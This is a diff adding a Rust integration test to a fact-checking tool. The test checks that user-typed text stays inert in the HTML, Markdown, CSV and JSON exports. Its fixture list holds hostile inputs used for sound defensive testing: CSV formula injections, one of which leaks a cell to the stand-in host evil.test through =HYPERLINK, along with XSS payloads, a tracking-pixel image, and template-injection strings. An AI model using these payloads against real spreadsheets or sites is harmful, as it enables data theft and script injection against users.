@@ -1,0 +1,172 @@
+//! What came from outside stays text in every form.
+
+use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};
+use serde_json::{Value, json};
+use stet::domain::Command;
+use stet::domain::command::AsideReason;
+use stet::domain::source::{EvidenceInput, Source, SourceKind, Stance};
+
+use super::desk::Desk;
+
+/// Strings that would do something where they are not taken for text.
+const HOSTILE: [&str; 15] = [
+    "=HYPERLINK(\"https://evil.test/?\"&A1,\"x\")",
+    "+1",
+    "-2+3",
+    "@SUM(A1)",
+    "＝1+1",
+    " \" =1+1",
+    "a\";=1+1",
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "![x](https://evil.test/pixel.gif)",
+    "https://evil.test/<img src=x onerror=alert(1)>",
+    "</style></blockquote><b onclick=alert(1)>",
+    "{{ told.hash }}{% include 'x' %}",
+    "\u{202e}evil <!--",
+    "| a |\n# h\n---\n[1]: https://evil.test\n```\n~~~ & \\",
+];
+
+/// A session in which everything that can be typed is `hostile`.
+async fn typed(first: &Desk, hostile: &str) -> Desk {
+    let line = hostile.replace('\n', " ");
+    let text =
+        format!("Paris has 330 bridges, and {line} is what they say.\n\n{hostile}\n\nThe end.");
+    let desk = first.also(&line, &text).await;
+    let details = json!({"kind": "edit_details", "details": {
+        "title": line, "author": line, "outlet": line, "language": "en"}});
+    let details: Command = serde_json::from_value(details).unwrap();
+    desk.editor_does(&details).await;
+    let claim = desk.adds("Paris has 330 bridges", Some(hostile)).await;
+    let command = Command::RewordClaim {
+        claim,
+        statement: format!("{hostile} it is"),
+        claimant: Some(hostile.into()),
+    };
+    desk.editor_does(&command).await;
+    desk.checker
+        .does(
+            desk.session,
+            &Command::AttachSource {
+                claim,
+                evidence: EvidenceInput {
+                    source: Source {
+                        title: hostile.into(),
+                        url: Some(format!("https://example.org/{}", line.replace(' ', "%20"))),
+                        kind: SourceKind::WebPage,
+                        primary: false,
+                    },
+                    passage: Some(hostile.into()),
+                    locator: Some(hostile.into()),
+                    stance: Stance::Refutes,
+                },
+            },
+            None,
+        )
+        .await;
+    let verdict = Command::GiveVerdict {
+        claim,
+        rating: "false".into(),
+        rationale: hostile.into(),
+        seen: None,
+    };
+    desk.checker.does(desk.session, &verdict, Some(2)).await;
+    desk.says(claim, hostile).await;
+    let dismiss = Command::DismissClaims {
+        claims: vec![desk.adds("The end", None).await],
+        reason: AsideReason::Other,
+        note: Some(hostile.into()),
+    };
+    desk.editor_does(&dismiss).await;
+    desk
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn what_came_from_outside_is_text_in_every_form() {
+    let first = Desk::new().await;
+    for hostile in HOSTILE {
+        let desk = typed(&first, hostile).await;
+        html_is_safe(&desk.report("html?comments=true").await, hostile);
+        markdown_is_safe(&desk.report("md?comments=true").await, hostile);
+        let rows = desk.rows("csv?comments=true").await;
+        for (column, cell) in rows.iter().flatten() {
+            let start =
+                cell.trim_start_matches(|it: char| it.is_whitespace() || "\"“".contains(it));
+            assert!(
+                !start.starts_with(['=', '+', '-', '@', '＝']),
+                "{column}: {cell:?}"
+            );
+        }
+        let row = rows.iter().find(|row| row["rating"] == "False").unwrap();
+        let plain = |cell: &str| cell.replace('\'', "");
+        assert_eq!(
+            plain(&row["claimant"]),
+            plain(hostile.trim()),
+            "{hostile:?}"
+        );
+        let export: Value = serde_json::from_str(&desk.report("json").await).unwrap();
+        assert!(
+            export
+                .to_string()
+                .contains(&json!(hostile.trim()).to_string())
+        );
+    }
+}
+
+/// The page has no element, and no attribute, but those of the template.
+fn html_is_safe(html: &str, hostile: &str) {
+    let body = html.split("</style>").last().unwrap();
+    let tags = body.split('<').skip(1).map(|it| it.split('>').next());
+    for tag in tags.flatten() {
+        // What stands in quotation marks is a value.
+        let names: String = tag.split('"').step_by(2).collect();
+        for bad in ["script", "img", "onclick", "onerror", "src", "include"] {
+            assert!(!names.contains(bad), "<{tag}> of {hostile:?}");
+        }
+    }
+    assert_eq!(html.matches("</style>").count(), 1, "{hostile:?}");
+    assert_eq!(html.matches("</main>").count(), 1, "{hostile:?}");
+}
+
+/// The file holds no markup, no picture, no address but of the web, and no heading but its own.
+fn markdown_is_safe(markdown: &str, hostile: &str) {
+    let options = Options::ENABLE_TABLES
+        | Options::ENABLE_STRIKETHROUGH
+        | Options::ENABLE_FOOTNOTES
+        | Options::ENABLE_TASKLISTS;
+    let parser = Parser::new_ext(markdown, options);
+    assert_eq!(
+        parser.reference_definitions().iter().count(),
+        0,
+        "{hostile:?}"
+    );
+    // GFM would take the backslash for the last letter of an address before it.
+    assert!(!markdown.contains("\\<"), "{hostile:?}");
+    let mut quoted = 0;
+    for event in parser {
+        match event {
+            Event::Html(_) | Event::InlineHtml(_) => panic!("{hostile:?} is markup: {event:?}"),
+            Event::Start(Tag::Image { .. } | Tag::Table(_) | Tag::FootnoteDefinition(_)) => {
+                panic!("{hostile:?}: {event:?}")
+            }
+            Event::Start(Tag::Link { ref dest_url, .. }) => {
+                assert!(dest_url.starts_with("https://"), "{event:?}");
+            }
+            Event::Start(Tag::BlockQuote(_)) => quoted += 1,
+            Event::End(TagEnd::BlockQuote(_)) => quoted -= 1,
+            Event::Start(Tag::CodeBlock(_)) => assert!(quoted > 0, "{hostile:?}: {event:?}"),
+            _ => {}
+        }
+    }
+    let headings = markdown.lines().filter(|line| line.starts_with("## "));
+    let told = [
+        "The article",
+        "Claims",
+        "Set aside",
+        "What the ratings mean",
+        "Ledger",
+        "Proof",
+    ];
+    let headings: Vec<_> = headings.map(|line| &line[3..]).collect();
+    assert_eq!(headings, told, "{hostile:?}");
+}
